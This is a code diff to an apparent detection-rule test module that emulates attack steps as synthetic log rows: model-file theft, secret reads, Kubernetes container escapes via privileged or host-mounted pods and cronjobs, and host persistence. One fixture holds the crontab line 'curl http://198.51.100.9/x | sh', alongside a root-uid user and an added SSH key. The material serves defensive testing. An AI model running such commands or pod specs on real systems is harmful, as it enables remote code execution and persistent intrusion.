@@ -4,6 +4,8 @@ from collections.abc import Iterator
 from typing import Any, Final
 
 from caponier.emulate.attack_steps.attack_step import (
+    DESK,
+    REFUSED,
     THIEF,
     AttackStep,
     Row,
@@ -13,12 +15,10 @@ from caponier.emulate.attack_steps.attack_step import (
     process,
     requested,
 )
+from caponier.emulate.office import HOST
 
 _EVE: Final = "user eve"
 _ADA: Final = "user ada"
-_DESK: Final = "10.8.0.21"
-_HOST: Final = "gpu-01.ml.example.org"
-_REFUSED: Final[dict[str, Any]] = {"errorCode": "AccessDenied"}
 _KUBE: Final = "system:serviceaccount:kube-system:daemon-set-controller"
 
 
@@ -52,7 +52,7 @@ def _objects(count: int) -> Iterator[Row]:
 def _blobs(count: int) -> Iterator[Row]:
     for number in range(count):
         yield {
-            "category": "StorageRead", "operationName": "GetBlob", "statusCode": 200,
+            "category": "StorageRead", "operationName": ("GetBlob", "GetFile")[number % 2], "statusCode": 200,
             "callerIpAddress": f"{THIEF}:4{number}12", "identity": {"type": "OAuth", "requester": {"upn": "eve"}},
             "uri": f"https://ml-models.blob.core.windows.net/m/{number}.onnx",
             "resourceId": "/subscriptions/s/resourceGroups/ml/providers/Microsoft.Storage/storageAccounts/ml-models",
@@ -64,16 +64,21 @@ def _pod(who: str = "eve", **spec: Any) -> Row:
     return kubernetes(who, "10.8.0.3", "create", "pods", {"spec": spec})
 
 
+def _cron(**spec: Any) -> Row:
+    body = {"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}}
+    return kubernetes("eve", "10.8.0.3", "create", "cronjobs", body)
+
+
 def _stated(statement: str, severity: str = "LOG") -> Row:
     return {
-        "timestamp": None, "user": "eve", "dbname": "i-0ml", "pid": 7, "remote_host": _DESK,
+        "timestamp": None, "user": "eve", "dbname": "i-0ml", "pid": 7, "remote_host": DESK,
         "error_severity": severity, "message": f"statement: {statement}",
     }  # fmt: skip
 
 
-def _grown(table: str, action: str = "added", **columns: str) -> Row:
+def _added(table: str, action: str = "added", **columns: str) -> Row:
     return {
-        "name": f"pack_incident_{table}", "hostIdentifier": _HOST, "unixTime": None, "action": action,
+        "name": f"pack_incident_{table}", "hostIdentifier": HOST, "unixTime": None, "action": action,
         "columns": columns or {"key_file": "/home/ubuntu/.ssh/authorized_keys"},
     }  # fmt: skip
 
@@ -87,8 +92,8 @@ SECRET: Final = AttackStep(
         (_vault("read", "kv/data/i-0ml"),),
     ),
     (
-        (_secret(address=_DESK, who=_ADA),),
-        (_secret(**_REFUSED),),
+        (_secret(address=DESK, who=_ADA),),
+        (_secret(**REFUSED),),
         (_secret("of-others"),),
         (_secret(call="DescribeSecret"),),
         (_vault("list", "kv/metadata/i-0ml"),),
@@ -98,7 +103,7 @@ SECRET: Final = AttackStep(
 WEIGHTS: Final = AttackStep(
     "several models read from elsewhere",
     (_files(6), tuple(_objects(6)), tuple(_blobs(6))),
-    (_files(3), _files(6, _DESK), _files(6, **_REFUSED)),
+    (_files(3), _files(6, DESK), _files(6, **REFUSED)),
 )
 
 ESCAPE: Final = AttackStep(
@@ -107,6 +112,9 @@ ESCAPE: Final = AttackStep(
         (_pod(containers=[{"image": "u", "securityContext": {"privileged": True}}]),),
         (_pod(hostPID=True, containers=[{"image": "u"}]),),
         (_pod(containers=[{"image": "u"}], volumes=[{"name": "h", "hostPath": {"path": "/"}}]),),
+        (_pod(containers=[{"image": "u"}], initContainers=[{"securityContext": {"privileged": True}}]),),
+        (_cron(hostPID=True, containers=[{"image": "u"}]),),
+        (_cron(containers=[{"image": "u"}], volumes=[{"name": "h", "hostPath": {"path": "/etc"}}]),),
     ),
     (
         (_pod(_KUBE, containers=[{"image": "u", "securityContext": {"privileged": True}}]),),
@@ -138,22 +146,22 @@ SERVED: Final = AttackStep(
     ),
     (
         (requested(THIEF, "GET", "/static/digits.onnx", 403),),
-        (requested(_DESK, "GET", "/static/digits.onnx"),),
+        (requested(DESK, "GET", "/static/digits.onnx"),),
         (requested(THIEF, "GET", "/docs/onnx.html"),),
     ),
 )
 
-GROWN: Final = AttackStep(
+ADDED: Final = AttackStep(
     "a key or a task new on a host",
     (
-        (_grown("authorized_keys"),),
-        (_grown("crontab", command="curl http://198.51.100.9/x | sh"),),
-        (_grown("users", uid="0", username="eve"),),
+        (_added("authorized_keys"),),
+        (_added("crontab", command="curl http://198.51.100.9/x | sh"),),
+        (_added("users", uid="0", username="eve"),),
     ),
     (
-        (_grown("authorized_keys", "removed"),),
-        (_grown("users", uid="1004", username="ada"),),
-        (_grown("deb_packages", name="vim"),),
+        (_added("authorized_keys", "removed"),),
+        (_added("users", uid="1004", username="ada"),),
+        (_added("deb_packages", name="vim"),),
     ),
 )
 
@@ -177,7 +185,7 @@ STEPS: Final = {
     "workload_escapes": ESCAPE,
     "training_rows_edited": EDITED,
     "model_file_served": SERVED,
-    "host_table_grew": GROWN,
+    "host_inventory_persistence": ADDED,
     "model_file_replaced": REPLACED,
 }
 """By the rule's name."""
